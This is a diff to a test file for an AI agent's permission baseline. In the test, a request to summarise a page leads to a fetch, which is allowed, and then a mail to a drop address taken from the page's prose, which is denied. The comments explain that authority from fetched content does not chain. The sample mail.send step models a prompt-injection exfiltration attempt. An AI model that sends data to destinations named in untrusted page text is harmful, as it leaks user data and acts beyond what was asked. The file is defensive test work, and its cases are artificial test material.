@@ -110,7 +110,8 @@ describe('agent baseline', () => {
         ['web.get', { url: 'https://www.elsewhere.example/run' }],
         ['mail.send', { to: 'drop@elsewhere.example', body: 'results' }],
       ]);
-      expect(got).toEqual(['allow', 'allow', 'deny:baseline.sink.no-destination-from-prose']);
+      // refused twice over: the address comes only from the page's prose, and a summary never asks to send
+      expect(got).toEqual(['allow', 'allow', 'deny:baseline.act.only-when-asked,baseline.sink.no-destination-from-prose']);
       // a link the named page mentions may be fetched (reading it sends nothing but the URL) …
       // … but what that second page says carries no authority: authority does not chain
       const chained = await decide('Summarise www.news.example for me', [
